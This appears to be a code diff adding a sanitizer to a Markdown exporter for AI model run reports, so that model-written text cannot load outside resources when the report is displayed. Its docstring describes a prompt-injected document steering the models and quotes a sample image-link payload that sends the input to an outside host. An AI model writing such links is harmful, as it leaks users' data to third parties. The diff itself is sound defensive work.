@@ -27,12 +27,46 @@ def _fenced(kind: str, text: object) -> Lines:
     return [f"{fence}{kind}", body, fence, ""]
 
 
+_FENCE = re.compile(r"(?:(`{3,})[^`]*|(~{3,}).*)$")
+"""A fence that opens a code block at the start of a line (a backtick fence's info string has no backtick)."""
+_TAG = re.compile(r"<(?=[A-Za-z/!?])")
+"""Where raw HTML (a tag, a comment, a declaration) would begin."""
+
+
+def _inert(text: object, *, inline: bool = False) -> str:
+    """Prose the models wrote (a document can steer them) with nothing in it that loads from elsewhere when the
+    report is displayed, as the page allows none (SECURITY.md): an image becomes a link (CommonMark's escaped
+    `\\!`), and raw HTML shows as text (`&lt;`), so `![x](https://elsewhere/?d=<the input>)` or an `<img>`
+    cannot send the input out from a Markdown viewer. Code in fenced blocks is left as written; inline code
+    shows those two escapes (where a code span ends is not safely known without a whole CommonMark parser).
+    `inline`: the text goes on after something else on its first line, which therefore opens no block."""
+    # Where this reading and a renderer's differ, it must take code for prose, never prose for code: only an
+    # unindented fence opens a block here (an indented one may belong to a list item, which a later unindented
+    # line ends, and the block with it), any line of its fence's character alone closes it, and a block left
+    # open is closed, so that the next section of the report starts outside any block.
+    lines, fence = [], ""
+    for number, line in enumerate(str(text).split("\n")):
+        if fence:
+            closing = line.strip()
+            if closing.startswith(fence) and set(closing) == {fence[0]}:
+                fence = ""
+            lines.append(line)
+        elif (opening := _FENCE.match(line)) and not (inline and number == 0):
+            fence = opening.group(1) or opening.group(2)
+            lines.append(line)
+        else:
+            lines.append(_TAG.sub("&lt;", line).replace("![", "\\!["))
+    if fence:
+        lines.append(fence)
+    return "\n".join(lines)
+
+
 def _start(event: dict[str, Any]) -> Lines:
     return [f"- **Models**: {event.get('model')} (sub-calls: {event.get('sub_model')})", ""]
 
 
 def _thought(event: dict[str, Any]) -> Lines:
-    return [str(event.get("text", "")), ""]
+    return [_inert(event.get("text", "")), ""]
 
 
 def _code(event: dict[str, Any]) -> Lines:
@@ -68,12 +102,12 @@ def _final(event: dict[str, Any]) -> Lines:
         "",
     ]
     if event.get("note"):
-        lines += [f"> {event['note']}", ""]
+        lines += [f"> {_inert(event['note'], inline=True)}", ""]
     return lines
 
 
 def _error(event: dict[str, Any]) -> Lines:
-    return ["## Error", "", f"`{event.get('code')}`: {event.get('message')}", ""]
+    return ["## Error", "", f"`{event.get('code')}`: {_inert(event.get('message'), inline=True)}", ""]
 
 
 def _child(event: dict[str, Any]) -> Lines:
@@ -82,7 +116,10 @@ def _child(event: dict[str, Any]) -> Lines:
         return []
     inner = RENDERERS[kind](data)
     title = f"**Child run, depth {event.get('depth')}** ({kind}):"
-    return [f"> {line}" if line else ">" for line in [title, "", *inner]] + [""]
+    # every line of the quote marked, those inside an item too: an unmarked one would end the quote and the code
+    # block in it, and a child's output would go on as the report's own Markdown
+    lines = "\n".join([title, "", *inner]).split("\n")
+    return [f"> {line}" if line else ">" for line in lines] + [""]
 
 
 RENDERERS: dict[str, Renderer] = {
@@ -118,7 +155,7 @@ def export_markdown(record: RunRecord, events: list[dict[str, Any]]) -> str:
         "",
         "## Task",
         "",
-        record.prompt,
+        _inert(record.prompt),
         "",
     ]
     iteration = None
@@ -129,5 +166,5 @@ def export_markdown(record: RunRecord, events: list[dict[str, Any]]) -> str:
             lines += [f"## Iteration {iteration}", ""]
         lines += RENDERERS.get(kind, _nothing)(event)
     if record.answer:
-        lines += ["## Answer" + ("" if record.ready else " (not marked ready)"), "", record.answer, ""]
+        lines += ["## Answer" + ("" if record.ready else " (not marked ready)"), "", _inert(record.answer), ""]
     return "\n".join(lines)
